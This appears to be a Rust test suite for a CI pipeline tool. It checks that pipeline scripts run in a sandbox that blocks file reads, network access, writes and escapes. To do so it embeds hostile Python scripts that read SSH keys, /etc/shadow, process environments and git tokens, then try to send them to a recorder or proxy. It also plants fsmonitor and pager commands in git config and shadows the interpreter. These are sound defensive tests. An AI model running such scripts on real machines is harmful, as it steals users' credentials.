//! Code of a project that makes pipelines: it can read the project and its Python installation, and nothing
//! else.

use std::{
    fs,
    io::{BufRead, BufReader},
    net::TcpListener,
    os::{
        linux::net::SocketAddrExt,
        unix::{
            fs::{PermissionsExt, symlink},
            net::{SocketAddr, UnixListener},
            process::ExitStatusExt,
        },
    },
    path::PathBuf,
    process::{Command, Stdio},
};

use rustix::process::{Pid, Signal, kill_process};

use crate::support::{
    backends::usable,
    hostile_project::{HARMONT, Hostile, python, reading},
    processes::{is_asleep, is_running, marker},
    project::{Ended, eventually},
    recorder::Recorder,
};

#[test]
fn a_pipeline_reads_no_file_of_the_user_or_of_the_machine() {
    let Some(hostile) = Hostile::new() else { return };
    let others = hostile.around.path().join("others");
    fs::write(&others, "SECRET-FILE").unwrap();
    hostile.project.file(".git/config", "[http]\n\textraheader = SECRET-TOKEN\n");
    hostile.project.file(".git/HEAD", "ref: refs/heads/main\n");
    hostile.project.file("data/own.txt", "own");
    let home = hostile.around.path().join("home").display().to_string();
    let paths = [
        format!("{home}/.ssh/id_rsa"),
        home,
        others.display().to_string(),
        "/root/.ssh".into(),
        "/etc/shadow".into(),
        "/etc/ssh".into(),
        "/etc/machine-id".into(),
        "/var/lib".into(),
        "/run".into(),
        "/srv".into(),
        "/proc/1/environ".into(),
        "/proc/1/root/etc".into(),
        "/proc/self/root/home".into(),
        "/dev/mem".into(),
    ];
    let printed = hostile.prints(&reading(&paths));
    assert!(!printed.contains("SECRET") && !printed.contains("read /"), "{printed}");
    assert_eq!(printed.matches("no /").count(), paths.len(), "{printed}");
    let own = ["data/own.txt", ".git/HEAD", ".git/config"].map(str::to_owned);
    let printed = hostile.prints(&reading(&own));
    assert!(printed.contains("own.txt own") && printed.contains("refs/heads/main"), "{printed}");
    assert!(printed.contains("read .git/config \n"), "{printed}");
}

#[test]
fn a_pipeline_reads_commits_of_every_repository_of_the_checkout_but_no_token() {
    let Some(hostile) = Hostile::new() else { return };
    let secret = [
        ".git/config.worktree",
        ".git/FETCH_HEAD",
        ".git/logs/HEAD",
        ".git/worktrees/w/config.worktree",
        ".git/modules/group/deep/config",
        ".git/modules/group/deep/modules/deeper/config",
        "third/party/.git/config",
    ];
    for path in secret {
        hostile.project.file(path, "url = https://bob:SECRET-TOKEN@host/\n");
    }
    // The same as a symlink to a file with an unsuspicious name.
    hostile.project.file("third/shared", "url = https://SECRET-TOKEN@host/\n");
    hostile.project.file("third/.git/HEAD", "ref: refs/heads/main\n");
    symlink("../shared", hostile.project.dir.join("third/.git/config")).unwrap();
    let git = |args: &[&str]| {
        let mut git = Command::new("git");
        git.args(["-c", "user.name=x", "-c", "user.email=x@y"]).args(args).current_dir(&hostile.project.dir);
        git.env_remove("GIT_DIR").output().is_ok_and(|output| output.status.success())
    };
    let has_git = git(&["init", "-q"])
        && git(&["commit", "-q", "--allow-empty", "-m", "x"])
        && git(&["tag", "-a", "v1.5", "-m", "x"])
        && git(&["config", "remote.origin.url", "https://SECRET-TOKEN@host/"]);
    let mut paths: Vec<String> = secret.iter().map(|path| (*path).to_owned()).collect();
    paths.extend(["third/shared", "third/.git/config", ".git/config"].map(str::to_owned));
    let describe =
        "import subprocess\nprint(subprocess.run(['git', 'describe', '--tags'], capture_output=True, text=True))\n";
    let printed = hostile.prints(&(reading(&paths) + describe));
    assert!(!printed.contains("SECRET") && printed.matches("read ").count() == paths.len(), "{printed}");
    if usable("git", has_git, "`git init` or `git commit` failed") {
        assert!(printed.contains("v1.5"), "{printed}");
    }
}

#[test]
fn a_pipeline_sees_few_variables_and_missing_ones_are_reported() {
    let Some(hostile) = Hostile::new() else { return };
    hostile.script(
        "print(dict(os.environ))\nos.environ.get('DEPLOY_KEY')\nos.getenv('NEVER_SET')\nharmont.pipeline('ci')",
    );
    let hm = || {
        let mut hm = hostile.hm(&["ls"]);
        hm.env("DEPLOY_KEY", "SECRET-VALUE").env("GITHUB_SHA", "abc123").env("GITHUB_TOKEN", "SECRET-TOKEN");
        hm
    };
    let ended = Ended::of(&mut hm()).expect(0);
    assert!(!ended.stderr.contains("SECRET") && ended.stderr.contains("abc123"), "{}", ended.stderr);
    let note = "note: .hm/ci.py read variables that are hidden from pipelines: set HM_RENDER_ENV=DEPLOY_KEY to show";
    assert!(ended.stderr.contains(note), "{}", ended.stderr);
    let ended = Ended::of(hm().env("HM_RENDER_ENV", "OTHER,DEPLOY_KEY")).expect(0);
    assert!(ended.stderr.contains("SECRET-VALUE") && !ended.stderr.contains("note:"), "{}", ended.stderr);
}

#[test]
fn a_pipeline_reaches_no_network_and_no_socket() {
    let Some(hostile) = Hostile::new() else { return };
    let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
    let name = format!("hm-test-{}", marker());
    let abstract_socket = UnixListener::bind_addr(&SocketAddr::from_abstract_name(&name).unwrap()).unwrap();
    let in_project = UnixListener::bind(hostile.project.dir.join("socket")).unwrap();
    let port = tcp.local_addr().unwrap().port();
    let printed = hostile.prints(&format!(
        "import socket\n\
         for family, address in ((socket.AF_INET, ('127.0.0.1', {port})), (socket.AF_UNIX, '\\0{name}'), (socket.AF_UNIX, 'socket'),\n        \
             (socket.AF_INET, ('192.0.2.1', 80))):\n    \
             try:\n        s = socket.socket(family); s.settimeout(5); s.connect(address); print('connected', address)\n    \
             except OSError as error: print('no connection')\n"
    ));
    assert!(!printed.contains("connected") && printed.matches("no connection").count() == 4, "{printed}");
    tcp.set_nonblocking(true).unwrap();
    assert!(tcp.accept().is_err());
    for listener in [abstract_socket, in_project] {
        listener.set_nonblocking(true).unwrap();
        assert!(listener.accept().is_err());
    }
}

/// Complements `untrusted::nothing_is_sent_from_an_untrusted_checkout`, whose pipelines are not code.
#[test]
fn no_command_lets_a_pipeline_send_files_of_the_user() {
    const SECRET: &str = "s3cret-of-the-user";
    let Some(hostile) = Hostile::new() else { return };
    let recorder = Recorder::start();
    fs::write(hostile.around.path().join("home/.ssh/id_rsa"), SECRET).unwrap();
    // A step without an isolated network could talk to the recorder.
    let steps = hostile.around.path().join("packages/harmont/__init__.py");
    let quiet = HARMONT.replace("\"cmd\": \"true\"", "\"cmd\": \"true\", \"runner_args\": {\"network\": \"none\"}");
    fs::write(steps, quiet).unwrap();
    hostile.script(&format!(
        "import json, urllib.request\n\
         found = [json.dumps(dict(os.environ))]\n\
         for path in ({:?}, '/proc/self/environ', '/proc/1/environ', '/proc/1/cmdline'):\n    \
             try: found.append(open(path).read())\n    \
             except OSError as error: found.append(str(error))\n\
         for url in ('http://{at}/direct', 'http://example.invalid/by-a-proxy'):\n    \
             try: urllib.request.urlopen(url, data=''.join(found).encode(), timeout=5)\n    \
             except OSError: print('not sent', file=sys.stderr)\n\
         print(''.join(found), file=sys.stderr)\n\
         harmont.pipeline('ci')",
        hostile.around.path().join("home/.ssh/id_rsa"),
        at = recorder.address(),
    ));
    for args in [&["ls"][..], &["render", "ci"], &["plan", "ci"], &["run", "ci"], &["runners"], &["doctor"]] {
        let mut hm = hostile.hm(args);
        hm.env("HM_REMOTE_HEADER", format!("authorization: Bearer {SECRET}")).env("TOKEN", SECRET);
        for proxy in ["http_proxy", "https_proxy", "all_proxy"] {
            hm.env(proxy, format!("http://{}", recorder.address()));
        }
        let ended = Ended::of(&mut hm);
        let renders = !matches!(args[0], "runners" | "doctor");
        assert_eq!(ended.stderr.matches("not sent\n").count(), if renders { 2 } else { 0 }, "{args:?}: {ended:?}");
        assert!(!renders || ended.code == Some(0), "{args:?}: {ended:?}");
        assert!(!(ended.stderr + &ended.stdout).contains(SECRET), "{args:?}");
    }
    assert_eq!(recorder.take(), [""; 0]);
}

#[test]
fn a_pipeline_writes_nothing_and_inherits_only_its_streams() {
    let Some(hostile) = Hostile::new() else { return };
    hostile.project.file("own.txt", "own");
    let before = hostile.project.listing();
    let home = hostile.around.path().join("home");
    let printed = hostile.prints(&format!(
        "home = {home:?}\n\
         for path in ('own.txt', 'new.txt', '.hm/new.py', '.git/hooks/post-checkout', home + '/.profile', '/usr/bin/new', sys.prefix + '/lib/new'):\n    \
             try:\n        open(path, 'w'); print('wrote', path)\n    except OSError: print('no')\n\
         for change in (lambda: os.chmod('own.txt', 0o777), lambda: os.utime('own.txt'), lambda: os.remove('own.txt'),\n        \
             lambda: os.symlink('x', 'link'), lambda: os.mkdir('.hm/dir')):\n    \
             try:\n        change(); print('changed')\n    except OSError: print('no')\n\
         print([os.readlink('/proc/self/fd/' + fd).split(':')[0] for fd in os.listdir('/proc/self/fd') if os.path.lexists('/proc/self/fd/' + fd)])\n\
         print(os.isatty(0), os.isatty(1), os.isatty(2))\n"
    ));
    assert!(!printed.contains("wrote") && !printed.contains("changed"), "{printed}");
    assert_eq!(printed.matches("no\n").count(), 12, "{printed}");
    // The pipe for the answer is open a second time. A descriptor that the script opened itself is its own.
    let streams = printed.lines().find(|line| line.starts_with('[')).unwrap();
    let rest =
        ["'pipe'", "'/dev/null'", "[", "]", ",", " "].iter().fold(streams.to_owned(), |text, it| text.replace(it, ""));
    assert!(rest.is_empty() || rest.starts_with("'/proc/"), "{streams}");
    assert!(printed.contains("False False False"), "{printed}");
    hostile.script("harmont.pipeline('ci')");
    fs::write(hostile.project.dir.join(".hm/ci.py"), &before[&hostile.project.dir.join(".hm/ci.py")].1).unwrap();
    let after = hostile.project.listing();
    let differs = |path: &PathBuf| path.ends_with("ci.py") || before.get(path) == after.get(path);
    assert!(after.keys().all(differs) && after.len() == before.len());
    assert_eq!(fs::read_dir(&home).unwrap().count(), 2);
}

#[test]
fn no_program_of_the_checkout_runs_outside_the_sandbox() {
    let Some(hostile) = Hostile::new() else { return };
    let modules = [
        "sitecustomize",
        "usercustomize",
        "harmont",
        "json",
        "site",
        "os",
        "encodings",
        "importlib",
        "site-packages/x",
    ];
    for module in modules {
        for dir in ["", ".hm/"] {
            let path = format!("{dir}{module}.py");
            hostile
                .project
                .file(&path, &(hostile.marking(module.rsplit('/').next().unwrap()) + "raise SystemExit(9)\n"));
        }
    }
    for program in
        ["python3", "python", "git", "sh", "bash", "env", "newuidmap", "newgidmap", "setsid", "bin/python3", "bin/env"]
    {
        let path = hostile.project.dir.join(program);
        let mark = hostile.around.path().join("marks").join(program.replace('/', "-"));
        hostile.project.file(program, &format!("#!/bin/sh\ntouch {}\n", mark.display()));
        fs::set_permissions(path, fs::Permissions::from_mode(0o755)).unwrap();
    }
    let fsmonitor = hostile.project.dir.join("git");
    hostile.project.file(".git/config", &format!("[core]\n\tfsmonitor = {}\n\tpager = ./git\n", fsmonitor.display()));
    for (file, text) in [("HEAD", "ref: refs/heads/main\n"), ("objects/x", ""), ("refs/x", "")] {
        hostile.project.file(&format!(".git/{file}"), text);
    }
    hostile.project.file("pyvenv.cfg", "home = /tmp\n");
    hostile.project.file(".python-version", "evil\n");
    // Only the files that a pipeline is in are asked for pipelines.
    for module in modules.iter().filter(|module| !module.contains('/')) {
        fs::remove_file(hostile.project.dir.join(format!(".hm/{module}.py"))).unwrap();
    }
    let path = std::env::var("PATH").unwrap_or_default();
    let own = hostile.project.dir.join("bin");
    for command in [&["ls"][..], &["plan"], &["render"], &["doctor"], &["run"]] {
        let mut hm = hostile.hm(command);
        hm.env("PATH", format!(".:bin::{}:{path}", own.display())).env_remove("HM_PYTHON");
        let ended = Ended::of(&mut hm);
        assert_eq!(hostile.marks(), Vec::<PathBuf>::new(), "{command:?}: {}", ended.stderr);
        if matches!(command[0], "ls" | "plan" | "render") {
            let mut hm = hostile.hm(command);
            let ended = Ended::of(hm.env("PATH", format!(".:bin::{path}"))).expect(0);
            assert_eq!(hostile.marks(), Vec::<PathBuf>::new(), "{command:?}: {}", ended.stderr);
        }
    }
}

#[test]
fn an_interpreter_of_the_checkout_is_run_in_the_sandbox() {
    let Some(hostile) = Hostile::new() else { return };
    hostile.project.file(".git/HEAD", "ref: refs/heads/main\n");
    let venv = hostile.project.dir.join(".venv");
    let made = Command::new(python()).args(["-m", "venv", "--without-pip"]).arg(&venv).output().unwrap();
    if !usable("python3 -m venv", made.status.success(), "the package python3-venv is missing") {
        return;
    }
    let packages = fs::read_dir(venv.join("lib")).unwrap().next().unwrap().unwrap().path().join("site-packages");
    fs::create_dir(packages.join("harmont")).unwrap();
    fs::write(packages.join("harmont/__init__.py"), HARMONT).unwrap();
    fs::write(packages.join("sitecustomize.py"), hostile.marking("sitecustomize")).unwrap();
    hostile.script("print(sys.prefix)\nharmont.pipeline('ci')");
    let path = format!("{}:{}", venv.join("bin").display(), std::env::var("PATH").unwrap_or_default());
    let hm = || {
        let mut hm = hostile.hm(&["ls"]);
        hm.env("PATH", &path).env_remove("HM_PYTHON").env_remove("PYTHONPATH");
        hm
    };
    let ended = Ended::of(&mut hm()).expect(0);
    assert!(ended.stderr.contains(venv.to_str().unwrap()), "{}", ended.stderr);
    let mut relative = hostile.hm(&["ls"]);
    Ended::of(relative.env_remove("PYTHONPATH").env("HM_PYTHON", ".venv/bin/python3")).expect(0);
    assert_eq!(hostile.marks(), Vec::<PathBuf>::new());
    // Any program may stand in its place.
    fs::remove_file(venv.join("bin/python3")).unwrap();
    let mark = hostile.around.path().join("marks/python3");
    fs::write(venv.join("bin/python3"), format!("#!/bin/sh\necho it ran >&2\ntouch {}\n", mark.display())).unwrap();
    fs::set_permissions(venv.join("bin/python3"), fs::Permissions::from_mode(0o755)).unwrap();
    let ended = Ended::of(&mut hm()).expect(2);
    assert!(ended.stderr.contains("it ran"), "{}", ended.stderr);
    assert_eq!(hostile.marks(), Vec::<PathBuf>::new());
}

#[test]
fn pipelines_that_are_not_files_of_the_project_are_refused_at_once() {
    let Some(hostile) = Hostile::new() else { return };
    let file = hostile.project.dir.join(".hm/ci.py");
    let outside = hostile.around.path().join("outside.py");
    fs::write(&outside, "print('SECRET')").unwrap();
    fs::remove_file(&file).unwrap();
    symlink(&outside, &file).unwrap();
    let ended = hostile.pipelines().expect(2);
    assert!(ended.stderr.contains("leads out of the project") && !ended.stderr.contains("SECRET"), "{}", ended.stderr);
    fs::remove_file(&file).unwrap();
    rustix::fs::mknodat(rustix::fs::CWD, &file, rustix::fs::FileType::Fifo, rustix::fs::Mode::from_raw_mode(0o600), 0)
        .unwrap();
    let ended = hostile.pipelines().expect(2);
    assert!(ended.stderr.contains("replace it with a regular file"), "{}", ended.stderr);
    fs::remove_file(&file).unwrap();
    symlink("../ci/pipeline.py", &file).unwrap();
    hostile.project.file("ci/pipeline.py", "import harmont\nharmont.pipeline('ci')\n");
    hostile.pipelines().expect(0);
}

#[test]
fn a_pipeline_cannot_control_the_terminal_and_its_answer_is_validated() {
    let Some(hostile) = Hostile::new() else { return };
    let printed = hostile.prints("print('\\x1b]0;title\\x07\\x1b[2Jcleared')\nsys.stderr.write('no end')");
    assert!(printed.contains("cleared\n") && printed.contains("no end\n") && !printed.contains('\x1b'), "{printed}");
    // Code that finds the descriptor for the answer answers for the project, as the project may.
    for (answer, text) in [
        ("nonsense", "ended without printing its pipelines"),
        ("{}", "does not have the package `harmont`"),
        (r#"{"envelope": "{}"}"#, "failed to read the output of harmont"),
        (r#"{"envelope": "{\"schema_version\": \"9\", \"pipelines\": []}"}"#, "envelope has version 9"),
    ] {
        hostile.script(&format!("os.write(3, {answer:?}.encode()); os._exit(0)"));
        let ended = hostile.pipelines().expect(2);
        assert!(ended.stderr.contains(text), "{answer}: {}", ended.stderr);
    }
}

#[test]
fn a_pipeline_that_hangs_is_ended_with_its_processes() {
    let Some(hostile) = Hostile::new() else { return };
    let marker = marker();
    hostile.script(&format!(
        "import signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\n\
         os.system(\"trap '' TERM; setsid sleep {marker} & :\")\nwhile True: pass"
    ));
    let ended = Ended::of(hostile.hm(&["run"]).env("HM_RENDER_TIMEOUT", "2")).expect(2);
    let said = "error: failed to render .hm/ci.py: python timed out after 2 s";
    assert!(ended.stderr.contains(said) && ended.stderr.contains("HM_RENDER_TIMEOUT"), "{}", ended.stderr);
    assert!(!is_running(&marker));
}

/// Returns whether this process ignores SIGINT.
fn ignores_interrupts() -> bool {
    let status = fs::read_to_string("/proc/self/status").unwrap();
    let ignored = status.lines().find_map(|line| line.strip_prefix("SigIgn:")).unwrap();
    u64::from_str_radix(ignored.trim(), 16).unwrap() & (1 << (Signal::INT.as_raw() - 1)) != 0
}

#[test]
fn a_rendering_ends_with_an_interrupted_or_killed_hm() {
    let Some(hostile) = Hostile::new() else { return };
    // A program that a script starts in the background ignores SIGINT, and so do its children.
    let interrupts = (!ignores_interrupts()).then_some(Signal::INT);
    for signal in [Signal::TERM, Signal::KILL].into_iter().chain(interrupts) {
        let marker = marker();
        hostile.script(&format!(
            "import signal\nfor it in (2, 15): signal.signal(it, signal.SIG_IGN)\nprint('here', flush=True)\n\
             os.system(\"trap '' INT TERM; sleep {marker}\")"
        ));
        let mut hm = hostile.hm(&["ls"]);
        let mut hm = hm.stdout(Stdio::null()).stderr(Stdio::piped()).spawn().unwrap();
        let mut lines = BufReader::new(hm.stderr.take().unwrap()).lines();
        assert_eq!(lines.next().unwrap().unwrap(), "here");
        eventually("a sleeping rendering", || is_asleep(&marker));
        kill_process(Pid::from_child(&hm), signal).unwrap();
        assert_eq!(hm.wait().unwrap().signal(), Some(signal.as_raw()));
        eventually("the end of the rendering", || !is_running(&marker));
    }
}

#[test]
fn concurrent_renderings_do_not_interfere() {
    let Some(hostile) = Hostile::new() else { return };
    hostile.script("open('/tmp/mine', 'x')\nharmont.pipeline('ci')");
    let hm = || hostile.hm(&["ls"]).stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap();
    let all: Vec<_> = (0..6).map(|_| hm()).collect();
    for mut hm in all {
        assert!(hm.wait().unwrap().success());
    }
}

#[test]
fn without_a_sandbox_a_project_renders_only_with_consent() {
    let Some(hostile) = Hostile::new() else { return };
    let hm = |trust: &str| {
        let of = hostile.hm(&["ls"]);
        let script = "echo 0 > /proc/sys/user/max_user_namespaces && exec \"$0\" \"$@\"";
        let mut hm = Command::new("unshare");
        hm.args(["--user", "--map-root-user", "sh", "-c", script]).arg(of.get_program()).args(of.get_args());
        for (name, value) in of.get_envs() {
            match value {
                Some(value) => hm.env(name, value),
                None => hm.env_remove(name),
            };
        }
        hm.current_dir(&hostile.project.dir).env("HM_TRUST", trust).stdin(Stdio::null());
        Ended::of(&mut hm)
    };
    hostile.script("print('ran')\nharmont.pipeline('ci')");
    let ended = hm("0");
    if !usable("a user namespace without others", ended.code == Some(2), &ended.stderr) {
        return;
    }
    let said = "error: no sandbox to render .hm/ci.py in";
    assert!(ended.stderr.contains(said) && ended.stderr.contains("HM_TRUST=1"), "{}", ended.stderr);
    assert!(!ended.stderr.contains("ran"), "{}", ended.stderr);
    let ended = hm("1").expect(0);
    assert!(ended.stderr.contains("warning: no sandbox to render") && ended.stderr.contains("ran"), "{}", ended.stderr);
}
